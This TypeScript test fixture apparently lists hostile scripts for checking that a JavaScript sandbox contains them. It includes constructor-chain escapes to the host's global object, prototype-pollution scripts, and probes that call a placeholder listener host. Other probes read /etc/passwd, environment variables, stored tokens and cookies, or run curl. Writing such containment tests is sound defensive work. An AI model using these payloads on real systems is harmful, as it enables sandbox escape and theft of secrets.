import { attacks, CONTAINED, ESCAPED, LISTENER, SEARCH } from './attack'

/** Bodies that search the value of an expression for the host. */
const searched = (expressions: Record<string, string>) =>
  Object.fromEntries(
    Object.entries(expressions).map(([name, expression]) => [name, `let found = ${expression}\n${SEARCH}`]),
  )

/** Scripts that climb from a value to its constructor, and from there to the host's global object. */
export const constructors = attacks(
  'constructor chains',
  searched({
    'from the message': "message.constructor.constructor('return this')()",
    'from a list of the message': "(message.list ?? []).constructor.constructor('return this')()",
    'from a text': "''.constructor.constructor('return this')()",
    'from a number': "(0).constructor.constructor('return this')()",
    'from a truth': "true.constructor.constructor('return this')()",
    'from a symbol': "Symbol().constructor.constructor('return this')()",
    'from a big integer': "1n.constructor.constructor('return this')()",
    'from a pattern': "/x/.constructor.constructor('return this')()",
    'from a date': "new Date().constructor.constructor('return this')()",
    'from an error': "new Error().constructor.constructor('return this')()",
    'from an error of the engine':
      "(() => { try { null.x } catch (e) { return e.constructor.constructor('return this')() } })()",
    'from an error of too much depth':
      "(() => { const f = () => f(); try { f() } catch (e) { return e.constructor.constructor('return this')() } })()",
    'from the error of a wrong syntax':
      "(() => { try { eval('(') } catch (e) { return e.constructor.constructor('return this')() } })()",
    'from the console': "console.log.constructor('return this')()",
    'from the console itself': "console.constructor.constructor('return this')()",
    'from the prototype of the console': "Object.getPrototypeOf(console.log).constructor('return this')()",
    'from Math.random': "Math.random.constructor('return this')()",
    'from the arguments': "arguments.constructor.constructor('return this')()",
    'from the callee': "arguments.callee.constructor('return this')()",
    'from an asynchronous function': "(async () => {}).constructor('return globalThis') && globalThis",
    'from a generator': "(function* () {}).constructor('yield globalThis')().next().value",
    'from an iterator': "[][Symbol.iterator]().next.constructor('return this')()",
    'from a promise': "Promise.resolve().then.constructor('return this')()",
    'from a proxy': "new Proxy(function () {}, {}).constructor('return this')()",
    'from Reflect': "Reflect.construct(Function, ['return this'])()",
    'from a getter':
      "Object.getOwnPropertyDescriptor(Object.prototype, '__proto__').get.constructor('return this')()",
    'from a bound function': "(() => {}).bind().constructor('return this')()",
    'from the prototype of functions': "Function.prototype.constructor('return this')()",
    'from JSON.parse': "JSON.parse('{}').constructor.constructor('return this')()",
    'from a tagged text': "((s) => s.constructor.constructor('return this')())`x`",
    'from this of a plain call': '(function () { return this })()',
    'from this of a callback': '[1].map(function () { return this })[0]',
    'from the global object': 'globalThis',
    'from an indirect evaluation': "(0, eval)('this')",
    'from the prototype of the global object': 'Object.getPrototypeOf(globalThis)',
    'from callers': '(function f() { return f.caller })?.()',
    'from the caller of arguments':
      '(() => { try { return arguments.callee.caller } catch { return null } })()',
  }),
  { expected: CONTAINED },
)

/** Scripts that change built-in prototypes, which the host might share. */
export const prototypes = attacks('prototype pollution', {
  'an answer for every object': `Object.prototype.value = '"${ESCAPED}"'; Object.prototype.error = 1; return 'own'`,
  'a then for every object': `Object.prototype.then = (resolve) => resolve('${ESCAPED}'); return {}`,
  'a toJSON for every object': 'Object.prototype.toJSON = () => 1; return {}',
  'a toJSON for every text': 'String.prototype.toJSON = () => ({}); return "x"',
  'a setter for every object':
    "Object.defineProperty(Object.prototype, 'name', { set() { throw 1 } }); throw new Error('x')",
  'a frozen world': 'for (const k of Reflect.ownKeys(globalThis)) Object.freeze(globalThis[k]); return 1',
  'a world without globals': 'for (const k of Reflect.ownKeys(globalThis)) delete globalThis[k]; return 1',
  'a JSON of its own': `JSON.stringify = () => '"forged"'; JSON.parse = () => '${ESCAPED}'; return 'true'`,
  'a JSON taken away': 'delete globalThis.JSON; return 1',
  'a text of its own': "globalThis.String = () => { throw 1 }; throw new Error('x')",
  'an error of its own': "globalThis.Error = class {}; throw new Error('x')",
  'a promise of its own': 'globalThis.Promise = class {}; return 1',
  'a map of its own': "Array.prototype.map = () => { throw 1 }; console.log('x'); return 1",
  'a join of its own': "Array.prototype.join = () => ({}); console.log('x'); return 1",
  'an iterator of its own':
    "Array.prototype[Symbol.iterator] = function* () {}; console.log('x'); return [1]",
  'a replaceAll of its own': "String.prototype.replaceAll = () => Symbol(); console.log('x'); return 1",
  'a call of its own': 'Function.prototype.call = () => { throw 1 }; return 1',
  'a toString of its own': 'Function.prototype.toString = () => { throw 1 }; return 1',
  'the prototype through a key of JSON': `Object.assign({}, JSON.parse('{"__proto__":{"leak":1}}')); return ({}).leak ?? null`,
  'the prototype through the constructor': 'message.constructor.prototype.leak = 1; return 1',
  'the prototype of lists': 'Array.prototype[0] = 1; Array.prototype.push = () => 0; return [,]',
  'a lock on all prototypes': 'Object.preventExtensions(Object.prototype); return {}',
  'another prototype of the global object': 'Object.setPrototypeOf(globalThis, null); return 1',
  'a hasInstance for all errors':
    'Object.defineProperty(Error, Symbol.hasInstance, { value: () => true }); throw 1',
})

/** Scripts that look for the network, files or threads under every name that a host might use. */
export const network = attacks('network', {
  'a fetch': `return fetch('${LISTENER}/fetch')`,
  'a request of old': `const r = new XMLHttpRequest(); r.open('GET', '${LISTENER}/xhr', false); r.send()`,
  'a socket': `new WebSocket('${LISTENER.replace('http', 'ws')}/socket')`,
  'an event stream': `new EventSource('${LISTENER}/events')`,
  'an image': `new Image().src = '${LISTENER}/image'`,
  'a beacon': `navigator.sendBeacon('${LISTENER}/beacon')`,
  'a script of a worker': `importScripts('${LISTENER}/script.js')`,
  'a worker': `new Worker('${LISTENER}/worker.js')`,
  'a module of Node': `require('node:http').get('${LISTENER}/require')`,
  'a module of Node by process': `process.mainModule.require('http').get('${LISTENER}/process')`,
  'a built-in module': `process.getBuiltinModule('http').get('${LISTENER}/builtin')`,
  'a binding of Node': "return process.binding('fs')",
  'a file': "return require('fs').readFileSync('/etc/passwd', 'utf8')",
  'the environment': 'return process.env',
  'the port of the thread': "require('worker_threads').parentPort.postMessage({ type: 'ready' })",
  'a message to the page': "self.postMessage({ type: 'done' })",
  'a message without a name': "postMessage({ type: 'done' })",
  'the storage': "return localStorage.getItem('token')",
  'the cookies': 'return document.cookie',
  'the module std of QuickJS': "return std.open('/etc/passwd', 'r').readAsString()",
  'the module os of QuickJS': "os.exec(['curl', 'x'])",
  'the end of the process': 'process.exit(0)',
  'the end of the worker': 'close()',
  'a timer': 'setTimeout(() => { for (;;); }, 0)',
  'a debugger': 'debugger; return 1',
})
